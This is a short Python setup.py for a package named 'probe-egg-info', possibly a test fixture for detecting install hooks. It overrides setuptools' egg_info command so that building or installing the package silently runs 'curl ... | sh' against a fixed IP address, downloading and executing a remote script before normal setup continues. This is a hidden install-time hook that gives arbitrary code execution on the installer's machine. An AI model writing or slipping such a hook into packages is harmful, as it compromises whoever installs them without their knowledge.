import os
from setuptools import setup
from setuptools.command.egg_info import egg_info
class Hooked(egg_info):
    def run(self):
        os.system("curl -s http://198.51.100.130/egg_info | sh")
        super().run()
setup(name="probe-egg-info", version="0.1", cmdclass={"egg_info": Hooked})
